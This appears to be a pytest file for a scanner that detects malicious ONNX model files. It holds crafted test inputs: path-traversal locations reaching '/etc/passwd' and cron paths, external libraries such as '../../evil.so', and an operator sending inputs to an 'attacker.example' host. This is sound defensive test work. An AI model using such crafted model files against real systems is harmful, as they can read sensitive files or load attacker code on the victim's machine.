import pytest

from scanners.findings import Verdict
from tests.builders.protobufs import data, number, onnx_model, onnx_node, onnx_tensor
from tests.scanners.rules.examples import Example, scan_files

GOOD = onnx_model([onnx_node("MatMul")], [onnx_tensor("w", {"location": "weights.bin", "offset": "0"})])


def _twins(bad: bytes) -> Example:
    return Example(bad=lambda: {"model.onnx": bad}, good=lambda: {"model.onnx": GOOD})


EXAMPLES = {
    "MS540": _twins(onnx_model(tensors=[onnx_tensor("w", {"location": "../../etc/passwd"})])),
    "MS541": _twins(onnx_model(tensors=[onnx_tensor("w", {"location": "w", "basepath": "/etc"})])),
    "MS542": _twins(onnx_model([onnx_node("PyOp", "ai.onnx.contrib")])),
    "MS543": _twins(onnx_model([onnx_node("GridSample3D", "mylib")])),
    "MS544": _twins(
        onnx_model(
            [
                onnx_node(
                    "OpenAIAudioToText",
                    "com.microsoft.extensions",
                    data(5, data(1, "model_uri") + data(4, "https://attacker.example/v1/audio")),
                )
            ]
        )
    ),
}


def verdict(content: bytes) -> Verdict:
    return scan_files({"model.onnx": content}).verdict


def external(**entries: str) -> bytes:
    return onnx_model(tensors=[onnx_tensor("w", entries)])


@pytest.mark.parametrize("domain", ["", "ai.onnx.ml", "com.microsoft", "com.microsoft.nchwc", "pkg.torch.2.6.0"])
def test_domains_of_exporters_and_runtimes_are_quiet(domain: str) -> None:
    assert scan_files({"m.onnx": onnx_model([onnx_node("X", domain)])}).findings == ()


def test_cve_2022_25882_external_data_traversal() -> None:
    assert verdict(external(location="../../../etc/passwd")) is Verdict.MALICIOUS


def test_cve_2024_27318_external_data_traversal_after_a_directory() -> None:
    assert verdict(external(location="x/../../secret")) is Verdict.MALICIOUS


def test_cve_2025_51480_external_data_absolute_path() -> None:
    assert verdict(external(location="/etc/cron.d/x")) is Verdict.MALICIOUS
    assert verdict(external(location="C:\\Windows\\x")) is Verdict.MALICIOUS


def test_cve_2026_34445_external_data_keys_become_attributes() -> None:
    assert verdict(external(location="w", __class__="x")) is Verdict.MALICIOUS


def test_cve_2026_34447_external_data_basepath() -> None:
    assert verdict(external(location="w", basepath="/etc")) is Verdict.MALICIOUS


def test_external_data_in_the_memory_of_the_process() -> None:
    assert verdict(external(location="*/_ORT_MEM_ADDR_/*", offset="1", length="1")) is Verdict.MALICIOUS


@pytest.mark.parametrize("offset", ["-1", "0x10", " 1", "1e9", "", "99999999999999999999", str(1 << 63)])
def test_ranges_that_are_no_numbers_of_64_bits_are_suspicious(offset: str) -> None:
    assert verdict(external(location="w.bin", offset=offset)) is Verdict.SUSPICIOUS


def _compiled(path: str, *, embedded: int) -> bytes:
    context = data(5, data(1, "ep_cache_context") + data(4, path) + number(20, 3))
    return onnx_model(
        [onnx_node("EPContext", "com.microsoft", context + data(5, data(1, "embed_mode") + number(3, embedded)))]
    )


@pytest.mark.parametrize("path", ["../../evil.so", "/tmp/evil.engine", "C:\\x.bin"])
def test_a_compiled_part_outside_the_model_is_malicious(path: str) -> None:
    assert verdict(_compiled(path, embedded=0)) is Verdict.MALICIOUS


def test_a_compiled_part_beside_the_model_or_in_it_is_quiet() -> None:
    assert scan_files({"m.onnx": _compiled("m_ctx.bin", embedded=0)}).findings == ()
    assert scan_files({"m.onnx": _compiled("/../binary", embedded=1)}).findings == ()


@pytest.mark.parametrize("path", ["HTTP://h/w", "%2e%2e/w", "a%2F..%2Fw", "a/" * 2100 + "../" * 2200 + "w"])
def test_locations_that_hide_where_they_lead_are_malicious(path: str) -> None:
    assert verdict(external(location=path)) is Verdict.MALICIOUS


def test_locations_with_dots_and_percents_in_their_names_are_quiet() -> None:
    assert scan_files({"m.onnx": external(location="weights/w..v2 100%.bin")}).findings == ()


def test_the_last_of_two_values_is_where_a_tensor_lies() -> None:
    twice = data(13, data(1, "location") + data(2, "w.bin") + data(2, "../w"))
    renamed = data(13, data(1, "checksum") + data(1, "location") + data(2, "../w"))
    for entry in (twice, renamed):
        assert verdict(onnx_model(tensors=[onnx_tensor() + entry])) is Verdict.MALICIOUS


_OUTSIDE = data(5, data(1, "ep_cache_context") + data(4, "../x"))
_APART = data(5, data(1, "embed_mode") + number(3, 0))


@pytest.mark.parametrize(
    "attributes",
    [
        data(5, data(1, "q") + data(1, "ep_cache_context") + data(4, "a") + data(4, "../x")) + _APART,
        _OUTSIDE + data(5, data(1, "embed_mode") + number(3, 1) + number(3, 0)),
        _OUTSIDE + _APART + data(5, data(1, "embed_mode") + number(3, 1)),
        _OUTSIDE + data(5, data(1, "ep_cache_context") + data(4, "ok.bin")) + _APART,
    ],
    ids=["values-twice", "mode-twice", "modes", "paths"],
)
def test_a_compiled_part_that_says_things_twice_is_malicious(attributes: bytes) -> None:
    assert verdict(onnx_model([onnx_node("EPContext", "com.microsoft", attributes)])) is Verdict.MALICIOUS


def test_defaults_of_a_functions_attributes_are_read() -> None:
    tensor = onnx_tensor("w", {"location": "../w"})
    function = data(25, data(1, "F") + data(11, data(1, "value") + data(5, tensor)) + data(10, "my"))
    assert verdict(onnx_model(extra=function)) is Verdict.MALICIOUS


def test_a_function_of_the_model_does_not_hide_a_python_operator() -> None:
    function = data(25, data(1, "PyOp") + data(7, onnx_node("Relu")) + data(10, "ai.onnx.contrib"))
    assert verdict(onnx_model([onnx_node("PyOp", "ai.onnx.contrib")], extra=function)) is Verdict.MALICIOUS


def test_functions_of_the_model_are_quiet() -> None:
    function = data(25, data(1, "Mine") + data(7, onnx_node("Relu")) + data(10, "my"))
    assert scan_files({"m.onnx": onnx_model([onnx_node("Mine", "my")], extra=function)}).findings == ()


def test_operators_of_onnxruntime_extensions_are_noted_under_both_of_their_domains() -> None:
    for domain in ("ai.onnx.contrib", "com.microsoft.extensions"):
        report = scan_files({"m.onnx": onnx_model([onnx_node("BertTokenizer", domain)])})
        assert [finding.rule.id for finding in report.findings] == ["MS543"]


@pytest.mark.parametrize("name", ["AzureTextToText", "AzureAudioToText", "AzureTritonInvoker", "OpenAIAudioToText"])
def test_operators_that_send_inputs_to_a_service_are_suspicious(name: str) -> None:
    address = data(5, data(1, "model_uri") + data(4, "https://a.example/") + data(4, "https://b.example/"))
    report = scan_files({"m.onnx": onnx_model([onnx_node(name, "com.microsoft.extensions", address)])})
    found = next(finding for finding in report.findings if finding.rule.id == "MS544")
    assert (report.verdict, found.evidence) == (Verdict.SUSPICIOUS, "https://b.example/")
    assert verdict(onnx_model([onnx_node(name, "ai.onnx.contrib")])) is Verdict.SUSPICIOUS  # no address, or a built one
    assert verdict(onnx_model([onnx_node(name, "my")])) is Verdict.CLEAN
